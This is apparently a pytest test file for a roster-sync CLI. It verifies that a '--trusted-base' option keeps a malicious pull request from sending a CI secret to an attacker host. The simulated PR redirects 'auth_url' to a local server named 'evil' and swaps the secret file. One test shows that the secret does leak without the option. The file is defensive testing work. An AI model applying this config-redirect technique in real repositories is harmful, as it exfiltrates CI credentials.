"""A pull request cannot exfiltrate: `plan --trusted-base REF` connects only activations
whose hosts and secret references are the ones trusted at REF, and plans the others
offline. The exfiltration PR: `auth_url` moved to another host and `client_secret` read
from another file. Without trust anchored on the base branch the secret goes to the new
host; with it, no request reaches either server and no secret is read."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from district_files import district
from passport_cli import Passport

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "servers"))

from oneroster import OneRosterServer
from roster_data import RosterData

ACTIVATION = """\
version: 1
name: lms
application: oneroster-rest
mode: import
delivery:
  service_url: {url}
  auth_url: {token_url}
  client_id: ${{env:TRUST_CLIENT_ID}}
  client_secret: ${{file:{secret}}}
schools:
  auto: same-id
attributes:
  users: all
"""


def git(root: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.edu", *args],
        cwd=root,
        check=True,
        capture_output=True,
    )


@pytest.fixture
def servers(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[OneRosterServer, OneRosterServer]]:
    monkeypatch.setenv("TRUST_CLIENT_ID", "trusted-id")
    monkeypatch.delenv("PASSPORT_SECRETS_DIR", raising=False)
    data = RosterData.sample(5)
    with (
        OneRosterServer(data, client_id="trusted-id", client_secret="the-real-secret") as sis,
        OneRosterServer(data, client_id="trusted-id", client_secret="the-ci-secret") as evil,
    ):
        yield sis, evil


def base_branch(passport: Passport, sis: OneRosterServer) -> None:
    """main: an SIS over REST and a CSV import, committed."""
    district(passport.root)
    configs = passport.configs
    (configs / "sis-secret.txt").write_text("the-real-secret")
    (configs / "ci-secret.txt").write_text("the-ci-secret")  # stands in for the CI's secrets
    text = ACTIVATION.format(url=sis.service_url, token_url=sis.token_url, secret="sis-secret.txt")
    (configs / "lms.yaml").write_text(text)
    git(passport.root, "init", "-q", "-b", "main")
    git(passport.root, "add", "configs")
    git(passport.root, "commit", "-q", "-m", "base")


def pull_request(passport: Passport, sis: OneRosterServer, evil: OneRosterServer) -> None:
    text = ACTIVATION.format(url=sis.service_url, token_url=evil.token_url, secret="ci-secret.txt")
    (passport.configs / "lms.yaml").write_text(text)


def test_the_exfiltration_pr_reaches_no_host_under_trust(
    passport: Passport, servers: tuple[OneRosterServer, OneRosterServer]
) -> None:
    sis, evil = servers
    base_branch(passport, sis)
    pull_request(passport, sis, evil)
    result = passport("plan", "--trusted-base", "main", "--format", "json")
    assert not evil.requests and not sis.requests
    body = json.loads(result.stdout)
    by_name = {p["activation"]: p for p in body["plans"]}
    offline = by_name["lms"]["offline"]
    assert "not the ones trusted at main" in offline
    evil_host = evil.token_url.split("/")[2]
    assert f"delivery.auth_url goes to http://{evil_host}" in offline
    secret = "delivery.client_secret reads ${file:ci-secret.txt} (${file:sis-secret.txt} at main)"
    assert secret in offline
    assert by_name["lms"]["changes"] == []
    # The activation the PR did not touch plans as usual.
    assert by_name["sis"]["offline"] is None and by_name["sis"]["summary"]["create"] > 0
    text = passport("plan", "lms", "--trusted-base", "main").stdout
    assert "Planned offline: its connection settings are not the ones trusted at main" in text
    assert not evil.requests


def test_without_trust_the_same_pr_sends_the_secret_to_the_new_host(
    passport: Passport, servers: tuple[OneRosterServer, OneRosterServer]
) -> None:
    """Why the PR job needs --trusted-base: the new host gets the CI's secret."""
    sis, evil = servers
    base_branch(passport, sis)
    pull_request(passport, sis, evil)
    passport("plan", "lms", code=1)
    assert evil.requests  # the token request, carrying the secret, went to the new host


def test_an_untouched_activation_connects_under_trust(
    passport: Passport, servers: tuple[OneRosterServer, OneRosterServer]
) -> None:
    sis, evil = servers
    base_branch(passport, sis)
    result = passport("plan", "lms", "--trusted-base", "main", "--format", "json")
    assert json.loads(result.stdout)["offline"] is None
    assert sis.requests and not evil.requests


def test_a_new_activation_is_planned_offline(
    passport: Passport, servers: tuple[OneRosterServer, OneRosterServer]
) -> None:
    sis, evil = servers
    base_branch(passport, sis)
    text = ACTIVATION.format(url=evil.service_url, token_url=evil.token_url, secret="ci-secret.txt")
    (passport.configs / "vendor.yaml").write_text(text.replace("name: lms", "name: vendor"))
    result = passport("plan", "vendor", "--trusted-base", "main", "--out", "plans")
    assert "the activation is not at main" in result.stdout
    assert not evil.requests
    assert not (passport.root / "plans").exists() or not list((passport.root / "plans").iterdir())
